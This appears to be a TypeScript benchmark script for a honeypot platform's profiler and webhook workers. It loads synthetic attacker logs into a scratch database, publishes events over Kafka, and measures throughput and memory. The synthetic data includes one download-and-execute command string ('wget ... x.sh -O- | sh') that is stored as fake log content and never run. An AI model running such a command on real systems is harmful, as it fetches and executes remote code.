// Benchmark of the profiler and webhook bundles with real parts. Profiler: N synthetic `logs`
// rows (default 100,000) are written to a scratch database first, then the profiler bundle is
// started as a standalone process and timed until its cursor reaches the last row (rows/s),
// sampling its RSS; idle RSS is measured on an empty database before, and again after settling.
// Webhook: its bundle runs on Kafka (a local one unless KAFKA_BROKERS is set) with one
// subscription to a receiver on 127.0.0.1; idle RSS, then E events (default 20,000) published
// and delivered (events/s, RSS under load).
// Run: npx tsx --conditions=@decnet/source tools/bench/profiler.ts [--json] [--rows N] [--ips N]
//        [--batch N] [--events E] [--no-webhook] [--no-profiler]
import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { performance } from 'node:perf_hooks';
import { EVENTS as CATALOGUE, silentLogger } from '@decnet/core';
import { testConfig } from '@decnet/core/testing';
import { migrate, openDatabase, type Database } from '@decnet/db';
import { openKafkaTransport } from '@decnet/bus-kafka';
import { createScratchDatabase } from '@decnet/testing/postgres';
import { WORKSPACE_ROOT, argValue, args, asJson } from './bench-args.js';
import { memoryOf, mib, rng } from './measure.js';

/** Rows folded by default (issue 6 asks for 100,000). */
const DEFAULT_ROWS = 100_000;
/** Distinct attacker addresses in the synthetic data. */
const DEFAULT_IPS = 2_000;
/** Events pushed through the webhook by default. */
const DEFAULT_EVENTS = 20_000;
/** Rows per INSERT while loading the synthetic data. */
const INSERT_CHUNK = 10_000;
/** How often progress and memory are sampled. */
const SAMPLE_MS = 250;
/** Time a worker is left alone before its idle RSS is read. */
const SETTLE_MS = 5_000;
/** Give up when nothing moved for this long. */
const STALL_MS = 60_000;

const ROOT = WORKSPACE_ROOT;
const ROWS = Number(argValue('--rows') ?? DEFAULT_ROWS);
const IPS = Number(argValue('--ips') ?? DEFAULT_IPS);
const EVENTS = Number(argValue('--events') ?? DEFAULT_EVENTS);
const BATCH = argValue('--batch');
const WEBHOOK = !args.includes('--no-webhook');
const PROFILER = !args.includes('--no-profiler');

const log = (text: string): void => {
  if (!asJson) process.stderr.write(`${text}\n`);
};

function spawnWorker(bundle: string, env: Record<string, string>): ChildProcess {
  const child = spawn(process.execPath, [join(ROOT, bundle)], { cwd: ROOT, env: { ...process.env, ...env }, stdio: ['ignore', 'ignore', 'pipe'] });
  let tail = '';
  child.stderr?.on('data', (d: Buffer) => (tail = (tail + d.toString()).slice(-4000)));
  child.once('exit', (code, signal) => {
    if (code !== 0 && signal !== 'SIGTERM') process.stderr.write(`${bundle} exited (${code ?? signal}):\n${tail}\n`);
  });
  return child;
}

async function stopWorker(child: ChildProcess): Promise<void> {
  if (child.exitCode !== null) return;
  const exited = new Promise((r) => child.once('exit', r));
  child.kill('SIGTERM');
  await exited;
}

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

const USER_AGENTS = ['Mozilla/5.0 zgrab/0.x', 'curl/8.4.0', 'python-requests/2.31.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', 'sqlmap/1.7.2#stable'];
const SERVICES = ['ssh', 'http', 'ftp', 'smtp', 'redis'];

/** Writes `rows` synthetic rows: a fifth from 20 heavy hitters, the rest spread over `ips` addresses. */
async function loadRows(database: Database, rows: number, ips: number): Promise<number> {
  const random = rng(42);
  const t0 = Date.parse('2026-05-01T00:00:00Z');
  let written = 0;
  for (let start = 0; start < rows; start += INSERT_CHUNK) {
    const n = Math.min(INSERT_CHUNK, rows - start);
    const cols = { ts: [] as Date[], decky: [] as string[], service: [] as string[], type: [] as string[], ip: [] as string[], fields: [] as string[], msg: [] as (string | null)[], eid: [] as string[] };
    for (let k = 0; k < n; k++) {
      const i = start + k;
      const heavy = random() < 0.2;
      const ipIndex = heavy ? Math.floor(random() * 20) : 20 + Math.floor(random() * Math.max(1, ips - 20));
      const ip = `198.${18 + (ipIndex >> 16)}.${(ipIndex >> 8) & 255}.${ipIndex & 255}`;
      // Mostly increasing time, with some events arriving a little out of order.
      const ms = t0 + i * 900 + Math.floor(random() * 20_000) - (random() < 0.05 ? 60_000 : 0);
      const roll = random();
      const service = SERVICES[ipIndex % SERVICES.length] as string;
      let type = 'auth_attempt';
      let fields: Record<string, string> = { username: 'root' };
      let msg: string | null = null;
      if (roll < 0.25) {
        type = 'request';
        fields = { method: 'GET', path: `/p${i % 97}`, headers: JSON.stringify({ 'User-Agent': USER_AGENTS[i % USER_AGENTS.length] }) };
      } else if (roll < 0.35) {
        type = 'command';
        msg = `CMD uid=0 user=root src=${ip} pwd=/root cmd=wget http://203.0.113.${i % 250}/x.sh -O- | sh`;
        fields = {};
      } else if (roll < 0.5) {
        type = 'connection';
        fields = { src_port: String(1024 + (i % 60_000)) };
      }
      cols.ts.push(new Date(ms));
      cols.decky.push(`decky-0${(ipIndex + Math.floor(random() * 2)) % 8}`);
      cols.service.push(roll < 0.25 ? 'http' : service);
      cols.type.push(type);
      cols.ip.push(ip);
      cols.fields.push(JSON.stringify(fields));
      cols.msg.push(msg);
      cols.eid.push(`bench-${i}`);
    }
    await database.pool.query(
      `INSERT INTO logs (timestamp, decky, service, event_type, attacker_ip, raw_line, fields, msg, event_id)
       SELECT ts, decky, service, et, ip, 'synthetic', f, m, e
       FROM unnest($1::timestamptz[], $2::text[], $3::text[], $4::text[], $5::text[], $6::jsonb[], $7::text[], $8::text[])
       WITH ORDINALITY AS t(ts, decky, service, et, ip, f, m, e, n) ORDER BY n`,
      [cols.ts, cols.decky, cols.service, cols.type, cols.ip, cols.fields, cols.msg, cols.eid],
    );
    written += n;
  }
  await database.pool.query('ANALYZE logs');
  return written;
}

async function cursorOf(database: Database): Promise<number> {
  const r = await database.pool.query<{ id: string | null }>(`SELECT value->>'last_log_id' AS id FROM state WHERE key = 'attacker_worker_cursor'`);
  return Number(r.rows[0]?.id ?? 0);
}

interface ProfilerResult {
  rows: number;
  batchSize: string;
  attackers: number;
  eventsCounted: number;
  secondsFromSpawn: number;
  secondsFolding: number;
  rowsPerSecond: number;
  rowsPerSecondFromSpawn: number;
  idleRssMiB: number;
  loadedRssMaxMiB: number;
  loadedPssMaxMiB: number;
  idleAfterLoadRssMiB: number;
}

async function benchProfiler(url: string, database: Database, home: string): Promise<ProfilerResult> {
  const env: Record<string, string> = {
    DECNET_BUS: 'memory',
    DATABASE_URL: url,
    DECNET_HOME: home,
    DECNET_LOG_LEVEL: 'warn',
    DECNET_INSTANCE_ID: 'bench-profiler',
    ...(BATCH ? { DECNET_PROFILER_BATCH_SIZE: BATCH } : {}),
  };
  log('profiler: idle RSS on an empty database...');
  const idle = spawnWorker('dist/workers/profiler/main.js', env);
  await sleep(SETTLE_MS);
  const idleRss = memoryOf(idle.pid as number).rss;
  await stopWorker(idle);

  log(`profiler: writing ${ROWS} synthetic rows...`);
  const rows = await loadRows(database, ROWS, IPS);
  const maxId = Number((await database.pool.query<{ m: string }>('SELECT max(id)::text AS m FROM logs')).rows[0]?.m);
  await database.pool.query(`DELETE FROM state WHERE key = 'attacker_worker_cursor'`);
  log('profiler: folding...');
  const started = performance.now();
  const child = spawnWorker('dist/workers/profiler/main.js', env);
  let rssMax = 0;
  let pssMax = 0;
  let firstAt = 0;
  let firstCursor = 0;
  let last = -1;
  let lastChange = performance.now();
  for (;;) {
    await sleep(SAMPLE_MS);
    const m = memoryOf(child.pid as number);
    rssMax = Math.max(rssMax, m.rss);
    pssMax = Math.max(pssMax, m.pss);
    const cursor = await cursorOf(database);
    if (cursor > 0 && firstAt === 0) {
      firstAt = performance.now();
      firstCursor = cursor;
    }
    if (cursor !== last) lastChange = performance.now();
    last = cursor;
    if (cursor >= maxId) break;
    if (performance.now() - lastChange > STALL_MS) throw new Error(`profiler stalled at ${cursor}/${maxId}`);
    if (child.exitCode !== null) throw new Error('profiler exited');
  }
  const done = performance.now();
  await sleep(SETTLE_MS);
  const after = memoryOf(child.pid as number).rss;
  await stopWorker(child);
  const totals = (await database.pool.query<{ n: string; e: string }>('SELECT count(*)::text AS n, COALESCE(sum(event_count), 0)::text AS e FROM attackers')).rows[0];
  const foldingS = (done - firstAt) / 1000;
  return {
    rows,
    batchSize: BATCH ?? 'default (2000)',
    attackers: Number(totals?.n),
    eventsCounted: Number(totals?.e),
    secondsFromSpawn: Math.round((done - started) / 100) / 10,
    secondsFolding: Math.round(foldingS * 10) / 10,
    // The first sample already includes some rows: count only what was folded after it.
    rowsPerSecond: Math.round((rows - firstCursor) / Math.max(0.001, foldingS)),
    rowsPerSecondFromSpawn: Math.round(rows / ((done - started) / 1000)),
    idleRssMiB: mib(idleRss),
    loadedRssMaxMiB: mib(rssMax),
    loadedPssMaxMiB: mib(pssMax),
    idleAfterLoadRssMiB: mib(after),
  };
}

interface WebhookResult {
  events: number;
  /** Time the bench took to publish every event (delivery overlaps it). */
  publishSeconds: number;
  deliveredWhilePublishing: number;
  delivered: number;
  seconds: number;
  eventsPerSecond: number;
  idleRssMiB: number;
  loadedRssMaxMiB: number;
  loadedPssMaxMiB: number;
  idleAfterLoadRssMiB: number;
}

async function benchWebhook(url: string, database: Database, home: string): Promise<WebhookResult> {
  const { startKafka } = await import('@decnet/tool-kafka');
  let broker: Awaited<ReturnType<typeof startKafka>> | undefined;
  let brokers = process.env.KAFKA_BROKERS;
  if (!brokers) {
    log('webhook: starting a local Kafka...');
    broker = await startKafka({});
    brokers = broker.brokers.join(',');
  }
  let delivered = 0;
  const receiver = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      delivered++;
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
  const port = (receiver.address() as { port: number }).port;
  await database.pool.query(
    `INSERT INTO webhook_subscriptions (name, url, secret, topic_patterns) VALUES ('bench', $1, 'bench-secret-0123456789', '["attacker.>"]')`,
    [`http://127.0.0.1:${port}/hook`],
  );
  const prefix = `bench-webhook-${process.pid}-${Date.now().toString(36)}`;
  const env: Record<string, string> = {
    DECNET_BUS: 'kafka',
    KAFKA_BROKERS: brokers,
    DECNET_KAFKA_PREFIX: prefix,
    DATABASE_URL: url,
    DECNET_HOME: home,
    DECNET_LOG_LEVEL: 'warn',
    DECNET_INSTANCE_ID: 'bench-webhook',
    DECNET_WEBHOOK_ALLOW_CIDRS: '127.0.0.1/32',
    DECNET_WEBHOOK_QUEUE_SIZE: String(EVENTS),
  };
  const child = spawnWorker('dist/workers/webhook/main.js', env);
  const transport = await openKafkaTransport({ brokers: brokers.split(','), prefix, instanceId: 'bench-publisher', log: silentLogger });
  try {
    log('webhook: idle RSS...');
    // Group joins take seconds on Kafka: settle well past them.
    await sleep(SETTLE_MS * 3);
    const idleRss = memoryOf(child.pid as number).rss;
    const bus = transport.connect('bench');
    log(`webhook: publishing ${EVENTS} events...`);
    let rssMax = 0;
    let pssMax = 0;
    const sampler = setInterval(() => {
      const m = memoryOf(child.pid as number);
      rssMax = Math.max(rssMax, m.rss);
      pssMax = Math.max(pssMax, m.pss);
    }, SAMPLE_MS);
    const started = performance.now();
    for (let i = 0; i < EVENTS; i += 500) {
      await Promise.all(
        Array.from({ length: Math.min(500, EVENTS - i) }, (_, k) =>
          bus.publish(CATALOGUE.attackerObserved.subject, { attacker_ip: `198.51.100.${(i + k) % 250}`, decky: 'decky-01', service: 'ssh', event_type: 'login', seq: i + k }),
        ),
      );
    }
    const publishedS = (performance.now() - started) / 1000;
    const deliveredAtPublish = delivered;
    let lastCount = -1;
    let lastChange = performance.now();
    while (delivered < EVENTS) {
      await sleep(SAMPLE_MS);
      if (delivered !== lastCount) lastChange = performance.now();
      lastCount = delivered;
      if (performance.now() - lastChange > STALL_MS) break;
    }
    const seconds = (performance.now() - started) / 1000;
    clearInterval(sampler);
    await sleep(SETTLE_MS);
    const after = memoryOf(child.pid as number).rss;
    return {
      events: EVENTS,
      publishSeconds: Math.round(publishedS * 10) / 10,
      deliveredWhilePublishing: deliveredAtPublish,
      delivered,
      seconds: Math.round(seconds * 10) / 10,
      eventsPerSecond: Math.round(delivered / seconds),
      idleRssMiB: mib(idleRss),
      loadedRssMaxMiB: mib(rssMax),
      loadedPssMaxMiB: mib(pssMax),
      idleAfterLoadRssMiB: mib(after),
    };
  } finally {
    await stopWorker(child);
    await transport.close();
    receiver.closeAllConnections();
    await new Promise<void>((r) => receiver.close(() => r()));
    await broker?.stop();
  }
}

async function main(): Promise<void> {
  log('bundling worker-profiler and worker-webhook...');
  execFileSync(process.execPath, ['tools/bundle/bundle.mjs', '--quiet', 'worker-profiler', 'worker-webhook'], { cwd: ROOT, stdio: 'inherit' });
  const scratch = await createScratchDatabase();
  const database = await openDatabase(testConfig({ DATABASE_URL: scratch.url }), silentLogger, { retry: false, poolMax: 2 });
  const home = mkdtempSync(join(tmpdir(), 'bench-profiler-'));
  let profiler: ProfilerResult | undefined;
  let webhook: WebhookResult | undefined;
  try {
    await migrate(database.db, silentLogger);
    if (PROFILER) profiler = await benchProfiler(scratch.url, database, home);
    if (WEBHOOK) webhook = await benchWebhook(scratch.url, database, home);
  } finally {
    await database.close();
    await scratch.drop();
    rmSync(home, { recursive: true, force: true });
  }
  const machine = { cpus: cpus().length, model: cpus()[0]?.model ?? '?', loadavg1: Math.round((loadavg()[0] ?? 0) * 100) / 100 };
  if (asJson) {
    process.stdout.write(`${JSON.stringify({ machine, profiler, webhook }, null, 2)}\n`);
    return;
  }
  process.stdout.write(`machine: ${machine.cpus} × ${machine.model}, load ${machine.loadavg1}\n`);
  const p = profiler;
  if (p) {
    process.stdout.write(
    `profiler: ${p.rows} rows → ${p.attackers} attackers (${p.eventsCounted} events counted) in ${p.secondsFolding} s folding ` +
      `(${p.secondsFromSpawn} s from spawn): ${p.rowsPerSecond} rows/s (${p.rowsPerSecondFromSpawn} from spawn), batch ${p.batchSize}\n`,
  );
    process.stdout.write(`profiler RSS: idle ${p.idleRssMiB} MiB, loaded max ${p.loadedRssMaxMiB} MiB (PSS ${p.loadedPssMaxMiB}), idle after load ${p.idleAfterLoadRssMiB} MiB\n`);
  }
  if (webhook) {
    const w = webhook;
    process.stdout.write(
      `webhook: ${w.delivered}/${w.events} events delivered in ${w.seconds} s: ${w.eventsPerSecond} events/s (publishing took ${w.publishSeconds} s, ${w.deliveredWhilePublishing} delivered by then)\n`,
    );
    process.stdout.write(`webhook RSS: idle ${w.idleRssMiB} MiB, loaded max ${w.loadedRssMaxMiB} MiB (PSS ${w.loadedPssMaxMiB}), idle after load ${w.idleAfterLoadRssMiB} MiB\n`);
  }
}

await main();
